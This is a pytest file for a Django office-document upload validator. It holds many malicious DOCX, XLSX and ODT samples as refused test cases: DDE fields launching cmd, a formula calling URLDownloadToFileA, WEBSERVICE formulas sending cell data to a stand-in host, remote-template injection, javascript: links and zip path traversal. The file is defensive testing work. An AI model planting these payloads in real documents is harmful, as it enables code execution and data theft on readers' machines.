"""Office files with programs, embedded files or external content are refused, each with its message."""

import io
import zipfile
from urllib.parse import quote

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile

from library import files

from .. import factories
from .office_files import (
    OFFICE,
    WORD,
    build_content_types,
    build_docx,
    build_odt,
    build_relationships,
    build_xlsx,
    build_zip,
    declare,
    rename_parts,
)

MACROS = "W tym pliku są makra"
PROGRAM = "jest program"
FILES_INSIDE = "schowane inne pliki"
EXTERNAL = "z innego komputera"
FORMULA = "formuła, która u czytelnika pobiera"
APPENDED = "ma coś dopisane"
LOCKED = "jest zabezpieczony hasłem"
INVALID = "To nie jest prawidłowy plik"

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PNG = factories.picture()
HTML = b"<!doctype html><script>alert(1)</script>"
SETTINGS = "word/_rels/settings.xml.rels"
CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


MACRO_TYPES = build_content_types(
    "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", {}, {}
).replace('"1.0"', '"1.0" encoding="UTF-16"')


def validate(content, extension):
    files.validate_document(ContentFile(content, name=f"plik.{extension}"))


def refers(kind, target, mode="External", source=SETTINGS):
    return build_docx(parts={source: build_relationships((kind, target, mode))})


def embeds(name, content, **options):
    return build_docx(parts={f"word/{name}": content}, **options)


BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "separate", "end")
)


def instruction(text):
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def field(*instructions):
    body = "".join(map(instruction, instructions))
    return build_docx(f"<w:p>{BEGIN}{body}{SEPARATE}<w:r><w:t>tekst</w:t></w:r>{END}</w:p>")


def nested_field(before, inner, after=""):
    nested = f"{BEGIN}{instruction(inner)}{SEPARATE}{END}"
    return build_docx(f"<w:p>{BEGIN}{instruction(before)}{nested}{instruction(after)}{SEPARATE}{END}</w:p>")


def formula(text):
    return build_xlsx(f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')


def workbook(content):
    """Return an XLSX file with this content of the main part."""
    return build_xlsx(parts={"xl/workbook.xml": f"<workbook>{content}</workbook>"})


def chart(workbook, source="word/charts/chart1.xml"):
    return build_docx(
        parts={
            source: "<c:chartSpace xmlns:c='c'/>",
            "word/charts/_rels/chart1.xml.rels": build_relationships(
                ("package", "../embeddings/Arkusz.xlsx")
            ),
            "word/embeddings/Arkusz.xlsx": workbook,
        },
        overrides={source: CHART_TYPE},
        defaults={"xlsx": WORKBOOK_TYPE},
    )


def linked_chart(target):
    source = "word/charts/chart1.xml"
    relationships = build_relationships(("oleObject", target, "External"))
    return build_docx(
        parts={source: "<c:chartSpace xmlns:c='c'/>", "word/charts/_rels/chart1.xml.rels": relationships},
        overrides={source: CHART_TYPE},
    )


def insert_before_directory(content, inserted):
    """Put bytes between the last member of a ZIP file and its directory, and correct the offset."""
    end = content.rindex(b"PK\x05\x06")
    start = int.from_bytes(content[end + 16 : end + 20], "little")
    offset = (start + len(inserted)).to_bytes(4, "little")
    return content[:start] + inserted + content[start : end + 16] + offset + content[end + 20 :]


def with_comment(content, comment):
    file = io.BytesIO(content)
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = comment
    return file.getvalue()


def with_part(name, content, comment=b""):
    part = zipfile.ZipInfo(name)
    part.comment = comment
    file = io.BytesIO(build_docx())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(part, content)
    return file.getvalue()


REFUSED = {
    # External content
    "template of a server": ("docx", refers("attachedTemplate", "https://zly.example/a.dotm"), EXTERNAL),
    "template of a share": ("docx", refers("attachedTemplate", r"\\zly\a.dotm"), EXTERNAL),
    "template of a file URL": ("docx", refers("attachedTemplate", "file://zly/a.dotm"), EXTERNAL),
    "template of a file URL with a share": (
        "docx",
        refers("attachedTemplate", r"file:///\\zly\a.dotm"),
        EXTERNAL,
    ),
    "template, Strict": (
        "docx",
        refers(
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
            "https://zly.example/a.dotm",
        ),
        EXTERNAL,
    ),
    "template without a target mode": (
        "docx",
        build_docx(parts={SETTINGS: build_relationships(("attachedTemplate", "https://zly.example/a.dotm"))}),
        EXTERNAL,
    ),
    "frame": (
        "docx",
        refers("frame", "https://zly.example/", source="word/_rels/webSettings.xml.rels"),
        EXTERNAL,
    ),
    "part of a master document": (
        "docx",
        build_docx(relationships=[("subDocument", "a.docx", "External")]),
        EXTERNAL,
    ),
    "linked object": (
        "docx",
        build_docx(relationships=[("oleObject", "file:///C:/a.xlsx", "External")]),
        EXTERNAL,
    ),
    "chart of a workbook on a share": ("docx", linked_chart(r"file:///\\zly\a.xlsx"), EXTERNAL),
    "picture of a server": (
        "docx",
        build_docx(relationships=[("image", "https://zly.example/a.png", "External")]),
        EXTERNAL,
    ),
    "VML picture of a server": (
        "docx",
        build_docx('<v:imagedata src="https://zly.example/a.png"/>'),
        EXTERNAL,
    ),
    "VML background of a server": (
        "docx",
        build_docx('<v:shape><v:fill src="https://zly.example/a.png"/></v:shape>'),
        EXTERNAL,
    ),
    "VML picture of a server in a workbook": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/drawings/vmlDrawing1.vml": '<xml><br><v:imagedata src = "https://zly.example/a.png"/></xml>'
            }
        ),
        EXTERNAL,
    ),
    "computed address of a picture": ("docx", nested_field("INCLUDEPICTURE", "QUOTE 104"), EXTERNAL),
    "computed keyword of a fetching field": (
        "docx",
        nested_field("INCL", 'QUOTE "UDETEXT"', ' "http://zly.example/"'),
        EXTERNAL,
    ),
    "text of a server": ("docx", field('INCLUDETEXT "https://zly.example/a.docx"'), EXTERNAL),
    "picture of a share in a field": ("docx", field("INCLUDE", r'PICTURE "\\\\zly\\a.png" \d'), EXTERNAL),
    "workbook of a share": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/externalLinks/_rels/externalLink1.xml.rels": build_relationships(
                    ("externalLinkPath", r"\\zly\a.xlsx", "External")
                )
            }
        ),
        EXTERNAL,
    ),
    "data read on opening": (
        "xlsx",
        build_xlsx(
            parts={"xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>'}
        ),
        EXTERNAL,
    ),
    **{
        name: ("xlsx", build_xlsx(parts={f"xl/{part}.xml": content}), EXTERNAL)
        for name, part, content in (
            (
                "database",
                "connections",
                '<connections><dbPr connection="DSN=a"/></connections>',
            ),
            (
                "text file of a share",
                "connections",
                r'<connections><textPr sourceFile="\\zly\a.txt"/></connections>',
            ),
            ("query read on opening", "queryTables/queryTable1", '<queryTable refreshOnLoad="1"/>'),
            (
                "pivot table of a database",
                "pivotCache/pivotCacheDefinition1",
                '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external"/></pivotCacheDefinition>',
            ),
        )
    },
    "workbook of a server": (
        "xlsx",
        build_xlsx(relationships=[("externalLink", "https://zly.example/a.xlsx", "External")]),
        EXTERNAL,
    ),
    # Formulas
    **{
        f"formula {text}": ("xlsx", formula(text), FORMULA)
        for text in (
            '_xlfn.WEBSERVICE("https://zly.example/?"&amp;A1)',
            'IF(A1,_xlfn.IMAGE ( "https://zly.example/a.png"),"")',
            "webservice(A1)",
            "WEB<![CDATA[SERVICE]]>(A1)",
            "&#87;EBSERVICE(A1)",
            "_xlfn.STOCKHISTORY(A1,1)",
            '"a""b"&amp;_xlfn.IMAGE(A1)',
        )
    },
    **{
        f"formula {text}": ("xlsx", formula(text), PROGRAM)
        for text in (
            'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
            'RTD("zly.server",,"x")',
            "_xlfn._xlws.PY(0,1)",
            'DDE("cmd";"/c calc";"x")',
            "cmd|'/c calc'!A0",
            "1+MSEXCEL | '..\\cmd.exe'!x",
            'HYPERLINK("javascript:alert(1)","x")',
        )
    },
    "formula in a defined name": (
        "xlsx",
        workbook(
            '<definedNames><definedName name="a">_xlfn.WEBSERVICE(Arkusz1!A1)</definedName></definedNames>'
        ),
        FORMULA,
    ),
    "formula in a table": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/tables/t.xml": "<table><calculatedColumnFormula>IMAGE(A1)</calculatedColumnFormula></table>"
            }
        ),
        FORMULA,
    ),
    "formula of the data of a chart": ("docx", chart(formula("_xlfn.WEBSERVICE(A1)")), FORMULA),
    "formula of a spreadsheet in ODT": (
        "odt",
        build_odt(
            '<text:p><draw:object xlink:href="./Object 1"/></text:p>',
            parts={"Object 1/content.xml": declare('<text:x text:formula="of:=WEBSERVICE([.A1])"/>')},
        ),
        FORMULA,
    ),
    "formula of LibreOffice": (
        "odt",
        build_odt(
            parts={
                "Object 1/content.xml": declare(
                    '<text:x text:formula="of:=COM.MICROSOFT.WEBSERVICE([.A1])"/>'
                )
            }
        ),
        FORMULA,
    ),
    "ODT button with a picture of a server": (
        "odt",
        build_odt('<office:forms><text:x x:image-data="https://zly.example/a.png"/></office:forms>'),
        EXTERNAL,
    ),
    "ODT data of a server": (
        "odt",
        build_odt('<office:forms><x:instance src="https://zly.example/a.xml"/></office:forms>'),
        EXTERNAL,
    ),
    "ODT form that sends data": (
        "odt",
        build_odt('<office:forms><x:submission action="https://zly.example/"/></office:forms>'),
        EXTERNAL,
    ),
    "ODT picture of a server": (
        "odt",
        build_odt('<text:p><draw:image xlink:href="http://zly.example/a.png"/></text:p>'),
        EXTERNAL,
    ),
    "ODT section of a share": (
        "odt",
        build_odt('<text:section><text:section-source xlink:href="//zly/a.odt"/></text:section>'),
        EXTERNAL,
    ),
    "ODT template of a server": (
        "odt",
        build_odt(parts={"meta.xml": declare('<meta:template xlink:href="https://zly.example/a.ott"/>')}),
        EXTERNAL,
    ),
    "addresses of a mail merge": (
        "docx",
        build_docx(
            parts={
                "word/settings.xml": f'<w:settings xmlns:w="{WORD}"><w:connectString w:val="DSN=a"/></w:settings>'
            }
        ),
        EXTERNAL,
    ),
    # Embedded files
    "program": ("docx", embeds("embeddings/x.exe", b"program"), FILES_INSIDE),
    "program with a content type": (
        "docx",
        embeds("embeddings/x.exe", b"program", defaults={"exe": "application/octet-stream"}),
        FILES_INSIDE,
    ),
    "program called a picture": ("docx", embeds("media/image1.png", b"MZ" + b"\0" * 60), FILES_INSIDE),
    "OLE object": (
        "docx",
        embeds(
            "embeddings/oleObject1.bin",
            OLE,
            defaults={"bin": OLE_TYPE},
            relationships=[("oleObject", "embeddings/oleObject1.bin")],
        ),
        FILES_INSIDE,
    ),
    "OLE object with another name": ("docx", embeds("media/image1.emf", OLE), FILES_INSIDE),
    "object without OLE content": (
        "docx",
        embeds("media/x.png", PNG, relationships=[("oleObject", "media/x.png")]),
        FILES_INSIDE,
    ),
    "embedded document": (
        "docx",
        embeds("embeddings/a.docx", build_docx(), relationships=[("package", "embeddings/a.docx")]),
        FILES_INSIDE,
    ),
    "program called a temporary file": (
        "docx",
        embeds("media/a.tmp", b"program", defaults={"tmp": "application/octet-stream"}),
        FILES_INSIDE,
    ),
    "embedded PDF": ("docx", embeds("embeddings/a.pdf", factories.PDF), FILES_INSIDE),
    "imported page": (
        "docx",
        embeds("a.htm", HTML, defaults={"htm": "text/html"}, relationships=[("aFChunk", "a.htm")]),
        FILES_INSIDE,
    ),
    "chart with a program for a workbook": ("docx", chart(b"MZ"), INVALID),
    "chart with a workbook that holds a program": (
        "docx",
        chart(build_xlsx(parts={"xl/embeddings/x.exe": b"program"})),
        FILES_INSIDE,
    ),
    "chart with a workbook with macros": (
        "docx",
        chart(build_xlsx(parts={"xl/vbaProject.bin": b"program"})),
        MACROS,
    ),
    "XLSX with a program": ("xlsx", build_xlsx(parts={"xl/embeddings/x.exe": b"program"}), FILES_INSIDE),
    "ODT with a program": ("odt", build_odt(parts={"Object 1/x.exe": b"program"}), FILES_INSIDE),
    "ODT with an OLE object": ("odt", build_odt(parts={"Object 1": OLE}), FILES_INSIDE),
    "ODT with an OLE object in its text": (
        "odt",
        build_odt(
            "<text:p><draw:object-ole><office:binary-data>0M8R4KGxGuE=</office:binary-data></draw:object-ole></text:p>"
        ),
        FILES_INSIDE,
    ),
    "ODT with an older version": ("odt", build_odt(parts={"Versions/Version1": build_odt()}), FILES_INSIDE),
    # Programs
    "macros with another name": (
        "docx",
        embeds(
            "dane.bin",
            b"program",
            relationships=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "dane.bin")],
        ),
        MACROS,
    ),
    "macros by content type": (
        "docx",
        embeds("dane.bin", b"program", overrides={"word/dane.bin": "application/vnd.ms-office.vbaProject"}),
        MACROS,
    ),
    "macros by content type, in UTF-16": (
        "docx",
        build_docx(parts={"[Content_Types].xml": MACRO_TYPES.encode("utf-16")}),
        MACROS,
    ),
    "macros with an escaped name": ("docx", embeds("%76baProject.bin", b"program"), MACROS),
    "macro sheet": (
        "xlsx",
        build_xlsx(
            parts={"xl/macrosheets/sheet1.xml": "<x/>"},
            relationships=[
                (
                    "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                    "macrosheets/sheet1.xml",
                )
            ],
        ),
        MACROS,
    ),
    "ActiveX control": (
        "docx",
        embeds("activeX/activeX1.xml", "<x/>", relationships=[("control", "activeX/activeX1.xml")]),
        PROGRAM,
    ),
    "DDE field in pieces": ("docx", field(" DDE", r'AUTO c:\\windows\\cmd.exe "/k calc"'), PROGRAM),
    "DDE field with a computed keyword": (
        "docx",
        build_docx(
            f"<w:p>{BEGIN}{instruction('DDE')}{BEGIN}{instruction('QUOTE 65')}{END}{instruction(' cmd')}{END}</w:p>"
        ),
        PROGRAM,
    ),
    "DDE field in a result": (
        "docx",
        build_docx(
            f"<w:p>{BEGIN}{instruction('TOC')}{SEPARATE}{BEGIN}{instruction('DDE cmd')}{END}{END}</w:p>"
        ),
        PROGRAM,
    ),
    "simple DDE field": ("docx", build_docx('<w:fldSimple w:instr="DDE cmd x"/>'), PROGRAM),
    "DDE link": (
        "xlsx",
        build_xlsx(parts={"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
        PROGRAM,
    ),
    "script as a link in a field": ("docx", field('HYPERLINK "java', 'script:alert(1)"'), PROGRAM),
    "script as a link": (
        "docx",
        build_docx(relationships=[("hyperlink", "java\tscript:alert(1)", "External")]),
        PROGRAM,
    ),
    "ODT event": (
        "odt",
        build_odt(
            scripts='<office:scripts><script:event-listener script:language="ooo:script" '
            'xlink:href="vnd.sun.star.script:a.py$b?language=Python"/></office:scripts>'
        ),
        MACROS,
    ),
    "ODT link to a macro": (
        "odt",
        build_odt('<text:p><text:a xlink:href="macro:///Standard.a.b()">x</text:a></text:p>'),
        PROGRAM,
    ),
    **{
        f"ODT link to {url}": (
            "odt",
            build_odt(f'<text:p><text:a xlink:href="{url}">x</text:a></text:p>'),
            PROGRAM,
        )
        for url in (".uno:Quit", "vnd.libreoffice.command:a", "vnd.sun.star.expand:a", "shell:a", "mhtml:a")
    },
    "ODT field that runs a macro": (
        "odt",
        build_odt('<text:p><text:execute-macro text:name="a"/></text:p>'),
        MACROS,
    ),
    "ODT script in the text": (
        "odt",
        build_odt('<text:p><text:script script:language="JavaScript">alert(1)</text:script></text:p>'),
        MACROS,
    ),
    "ODT DDE": (
        "odt",
        build_odt("<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"),
        PROGRAM,
    ),
    "ODT Python script": ("odt", build_odt(parts={"Scripts/python/a.py": "print()"}), MACROS),
    "ODT macro with backslashes": (
        "odt",
        build_odt(parts={"Basic\\Standard\\Module1.xml": "<module/>"}),
        MACROS,
    ),
    "ODT macro with an escaped name": (
        "odt",
        build_odt(parts={"%42asic/Standard/Module1.xml": "<module/>"}),
        MACROS,
    ),
    "ODT library elsewhere": (
        "odt",
        build_odt(parts={"Basic/script-lc.xml": '<libraries><library link="true" href="a"/></libraries>'}),
        MACROS,
    ),
    # More than one file
    "page at the end": ("docx", build_docx() + HTML, APPENDED),
    "page at the end of ODT": ("odt", build_odt() + HTML, APPENDED),
    "page in the comment": ("xlsx", with_comment(build_xlsx(), HTML), APPENDED),
    "page in the comment of a part": ("docx", with_part("word/a.xml", "<x/>", comment=HTML), APPENDED),
    "page before the directory": ("docx", insert_before_directory(build_docx(), HTML), APPENDED),
    "archive at the end": ("docx", build_docx() + build_zip({"a.txt": "a"}), APPENDED),
    "part twice, in capitals": ("docx", with_part("WORD/document.xml", "<x/>"), INVALID),
    "part twice, escaped": ("docx", with_part("word/%64ocument.xml", "<x/>"), INVALID),
    "part twice, with a backslash": ("docx", with_part("word\\document.xml", "<x/>"), INVALID),
    "part outside the folder": ("docx", with_part("word\\..\\..\\a.xml", "<x/>"), INVALID),
    "part on a drive": ("docx", with_part("C:\\a.xml", "<x/>"), INVALID),
    # XML that takes memory or time
    "entities": (
        "docx",
        build_docx(parts={"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        INVALID,
    ),
    "deep nesting": ("odt", build_odt("<text:p>" * 100_000), INVALID),
    # The name of an attribute twice, in two namespaces
    "ODT picture with two addresses": (
        "odt",
        build_odt(
            '<text:p><draw:image xlink:href="https://zly.example/a.png" x:href="Pictures/a.png"/></text:p>'
        ),
        INVALID,
    ),
    "simple field with two instructions": (
        "docx",
        build_docx(r'<w:fldSimple w:instr="DDEAUTO c:\x cmd" x:instr="PAGE"/>'),
        INVALID,
    ),
    "template with two targets": (
        "docx",
        build_docx(
            parts={
                SETTINGS: build_relationships(
                    ("attachedTemplate", "https://zly.example/a.dotm", "External")
                ).replace("TargetMode", 'x:Target="a.dotx" TargetMode')
            }
        ),
        INVALID,
    ),
    "long attribute": ("docx", build_docx(f'<w:p w:a="{"x" * 9_000_000}"/>'), INVALID),
    # Locked
    "encrypted parts": (
        "docx",
        build_docx().replace(b"PK\1\2\x14\3\x14\0\0", b"PK\1\2\x14\3\x14\0\1"),
        LOCKED,
    ),
    "encrypted package of LibreOffice": (
        "odt",
        build_zip(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": '<manifest><file-entry full-path="encrypted-package"><encryption-data/>'
                "</file-entry></manifest>",
                "encrypted-package": "x",
            }
        ),
        LOCKED,
    ),
    # Other kinds of documents
    "workbook as DOCX": ("docx", build_xlsx(), INVALID),
    "spreadsheet as ODT, by its manifest": (
        "odt",
        build_zip(
            {
                "content.xml": "<x/>",
                "META-INF/manifest.xml": '<manifest><file-entry full-path="/" media-type="application/'
                'vnd.oasis.opendocument.spreadsheet"/></manifest>',
            }
        ),
        INVALID,
    ),
    "document as XLSX": ("xlsx", build_docx(main="xl/workbook.xml"), INVALID),
}


@pytest.mark.parametrize(("extension", "content", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_active_office_file_is_refused(extension, content, message):
    with pytest.raises(ValidationError, match=message):
        validate(content, extension)


FOREIGN = 'xmlns:x="urn:x" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
DDE_ENDS = {
    "attribute": '<w:fldChar x:fldCharType="separate"/>',
    "element": '<x:fldChar w:fldCharType="separate"/>',
    "parent": '<x:p><w:fldChar w:fldCharType="separate"/></x:p>',
    "choice": '<mc:AlternateContent><mc:Choice Requires="x"><w:fldChar w:fldCharType="separate"/></mc:Choice>'
    "</mc:AlternateContent>",
}


@pytest.mark.parametrize("decoy", DDE_ENDS.values(), ids=DDE_ENDS.keys())
def test_mark_that_word_ignores_ends_no_field(decoy):
    body = f"<w:p {FOREIGN}>{BEGIN}{instruction('DD')}<w:r>{decoy}</w:r>{instruction('E cmd')}{END}</w:p>"
    with pytest.raises(ValidationError, match=PROGRAM):
        validate(build_docx(body), "docx")


def test_field_that_begins_in_a_branch_is_refused():
    choice = f'<mc:AlternateContent><mc:Choice Requires="x">{BEGIN}</mc:Choice></mc:AlternateContent>'
    body = f"<w:p {FOREIGN}>{choice}{instruction('PAGE')}{END}</w:p>"
    with pytest.raises(ValidationError, match=PROGRAM):
        validate(build_docx(body), "docx")


@pytest.mark.parametrize("attribute", ['x:TargetMode="External"', 'x:Type="hyperlink"'])
def test_attribute_in_foreign_namespace_is_ignored(attribute):
    relationships = build_relationships(("afChunk", "strona.html"))
    decoy = relationships.replace("/>", f' xmlns:x="urn:x" {attribute}/>')
    if "Type=" in attribute:
        decoy = decoy.replace(f'Type="{OFFICE}/afChunk" ', "", 1)
    content = build_docx(parts={"word/_rels/document.xml.rels": decoy})
    if "Type=" in attribute:
        validate(content, "docx")  # Word, too, knows no type
    else:
        with pytest.raises(ValidationError, match=FILES_INSIDE):
            validate(content, "docx")


def test_formula_around_another_element_is_read_whole():
    for inside in ("<x/>", "<f/>", "<x>1</x>"):
        content = build_xlsx(f"<row><c><f>WEB{inside}SERVICE(A1)</f></c></row>")
        with pytest.raises(ValidationError, match=FORMULA):
            validate(content, "xlsx")


TAKEN = {
    "field in the text of a shape": (
        "docx",
        build_docx(
            f'<w:p {FOREIGN} xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><w:r>'
            '<mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx><w:txbxContent><w:p>'
            f"{BEGIN}{instruction('PAGE')}{SEPARATE}{END}</w:p></w:txbxContent></wps:txbx></mc:Choice>"
            f"<mc:Fallback><v:textbox><w:txbxContent><w:p>{BEGIN}{instruction('PAGE')}{SEPARATE}{END}</w:p>"
            "</w:txbxContent></v:textbox></mc:Fallback></mc:AlternateContent></w:r></w:p>"
        ),
    ),
    "link": ("docx", build_docx(relationships=[("hyperlink", "https://rumia.eu/", "External")])),
    "link to a letter": ("docx", build_docx(relationships=[("hyperlink", "mailto:a@rumia.eu", "External")])),
    "template by its name": ("docx", refers("attachedTemplate", "Normal.dotm")),
    "template of the author's computer": (
        "docx",
        refers("attachedTemplate", r"file:///C:\Users\Jan\Szablony\Pismo.dotx"),
    ),
    "template of an old Macintosh": (
        "docx",
        refers("attachedTemplate", "Macintosh%20HD:Users:jan:Szablony:pismo.dotx"),
    ),
    "picture linked on the author's computer": (
        "docx",
        build_docx(relationships=[("image", "file:///C:/Users/Jan/herb.png", "External")]),
    ),
    "picture of a letter": (
        "docx",
        build_docx(relationships=[("image", "cid:image001.png@01DA1B2C.3D4E5F60", "External")]),
    ),
    "picture pasted from another program": (
        "docx",
        build_docx(parts={"word/media/image1.tmp": PNG}, defaults={"tmp": "image/png"}),
    ),
    "other workbook in the same folder": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/externalLinks/_rels/externalLink1.xml.rels": build_relationships(
                    ("externalLinkPath", "bud%C5%BCet.xlsx", "External")
                )
            }
        ),
    ),
    **{
        f"formula {text}": ("xlsx", formula(text))
        for text in (
            "SUM(A1:A9)/2",
            '"Funkcja WEBSERVICE(adres)"',
            "'CALL (2026)'!A1+'IMAGE (1)'!B2",
            'HYPERLINK("https://rumia.eu/","Rumia")',
            "MYIMAGE(A1)+RECALL(2)",
            "IMAGES+Call*2",
            'COPY("x")',
        )
    },
    **{
        f"formula {text}": ("xlsx", formula(text))
        for text in ('IF(A1="cmd|x!","|","!")', "'[1]cmd|a'!A1", '_xlfn.TEXTJOIN("|",TRUE,A1:A3)')
    },
    "query of the workbook itself": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/connections.xml": "<connections><dbPr "
                'connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=a"/></connections>'
            }
        ),
    ),
    "pivot table of a sheet": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/pivotCache/pivotCacheDefinition1.xml": '<pivotCacheDefinition refreshOnLoad="1">'
                '<cacheSource type="worksheet"/></pivotCacheDefinition>'
            }
        ),
    ),
    "pivot table of a query of the workbook": (
        "xlsx",
        build_xlsx(
            parts={
                "xl/pivotCache/pivotCacheDefinition1.xml": "<pivotCacheDefinition>"
                '<cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
            }
        ),
    ),
    "parts with backslashes": (
        "xlsx",
        rename_parts(build_xlsx(), lambda name: name.replace("/", "\\")),
    ),
    "main part with an escaped name": (
        "docx",
        rename_parts(build_docx(main="word/głośne.xml"), quote),
    ),
    "text that looks like a formula": (
        "xlsx",
        build_xlsx('<row><c t="inlineStr"><is><t>=WEBSERVICE(A1)</t></is></c></row>'),
    ),
    "fields": ("docx", field(" PAGEREF _Toc1 \\h ", " ")),
    "fields in a table of contents": (
        "docx",
        build_docx(
            f"<w:p>{BEGIN}{instruction('TOC')}{SEPARATE}{BEGIN}{instruction('PAGEREF')}{END}{END}</w:p>"
        ),
    ),
    "formula of fields": (
        "docx",
        build_docx(
            f"<w:p>{BEGIN}{instruction('=')}{BEGIN}{instruction('NUMPAGES')}{END}{instruction('-1')}{END}</w:p>"
        ),
    ),
    "picture in a field": ("docx", field(r'INCLUDEPICTURE "C:\\Users\\Jan\\herb.png" \* MERGEFORMAT')),
    "chart pasted from a workbook": ("docx", linked_chart(r"file:///C:\Users\Jan\budżet.xlsx")),
    "chart": ("docx", chart(build_xlsx())),
    "pictures called like macros": (
        "docx",
        build_docx(
            parts={
                "word/media/vbaProject.png": PNG,
                "word/media/vba-schemat.png": PNG,
                "word/media/makro.png": PNG,
            }
        ),
    ),
    "settings of a printer": (
        "xlsx",
        build_xlsx(
            parts={"xl/printerSettings/printerSettings1.bin": b"H\0P\0" * 20},
            defaults={"bin": "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"},
        ),
    ),
    "Excel's VML, which is no XML": (
        "xlsx",
        build_xlsx(parts={"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}),
    ),
    "empty line at the end": ("docx", build_docx() + b"\r\n\0"),
    "empty line at the end of ODT": ("odt", build_odt() + b"\n"),
    "main part with any name": ("docx", build_docx(main="word/document2.xml")),
    "main part in another folder": ("docx", build_docx(main="tresc/pismo.xml")),
    "workbook with any name": ("xlsx", build_xlsx(main="xl/workbook2.xml")),
    "ODT link": ("odt", build_odt('<text:p><text:a xlink:href="https://rumia.eu/">x</text:a></text:p>')),
    "ODT template of the author's computer": (
        "odt",
        build_odt(parts={"meta.xml": declare('<meta:template xlink:href="../../Szablony/pismo.ott"/>')}),
    ),
    "ODT toolbar": (
        "odt",
        build_odt(
            parts={"Configurations2/toolbar/a.xml": declare('<x:toolbaritem xlink:href=".uno:InsertTable"/>')}
        ),
    ),
    "ODT button that is a link": (
        "odt",
        build_odt('<office:forms><x:button xlink:href="https://rumia.eu/"/></office:forms>'),
    ),
    "ODT template on another drive": (
        "odt",
        build_odt(
            parts={"meta.xml": declare('<meta:template xlink:href="../../../C:/Szablony/pismo.ott"/>')}
        ),
    ),
    "ODT form without an address": (
        "odt",
        build_odt(
            '<office:forms><text:x xlink:href="" x:image-data="" src="Pictures/a.png"/></office:forms>'
        ),
    ),
    "ODT formula": (
        "odt",
        build_odt(
            '<text:p><draw:object xlink:href="./Object 1"/></text:p>',
            parts={"Object 1/content.xml": "<math/>", "ObjectReplacements/Object 1": b"VCLMTF"},
        ),
    ),
    "ODT picture called like macros": (
        "odt",
        build_odt(parts={"Pictures/Basic.png": PNG, "Pictures/scripts.png": PNG}),
    ),
    "ODT with an empty list of settings": (
        "odt",
        build_odt(parts={"Configurations2/accelerator/current.xml": ""}),
    ),
    "ODT without a member mimetype": (
        "odt",
        build_zip(
            {
                "content.xml": "<x/>",
                "META-INF/manifest.xml": '<manifest><file-entry full-path="/" media-type="application/'
                'vnd.oasis.opendocument.text"/></manifest>',
            }
        ),
    ),
    "sizes in two namespaces": (
        "odt",
        build_odt('<text:p><draw:image svg:width="2cm" fo:width="3cm" xlink:href="a" x:href="a"/></text:p>'),
    ),
    "ODT without scripts": ("odt", build_odt(scripts="<office:scripts/>")),
}


@pytest.mark.parametrize(("extension", "content"), TAKEN.values(), ids=TAKEN.keys())
def test_innocent_office_file_is_taken(extension, content):
    validate(content, extension)
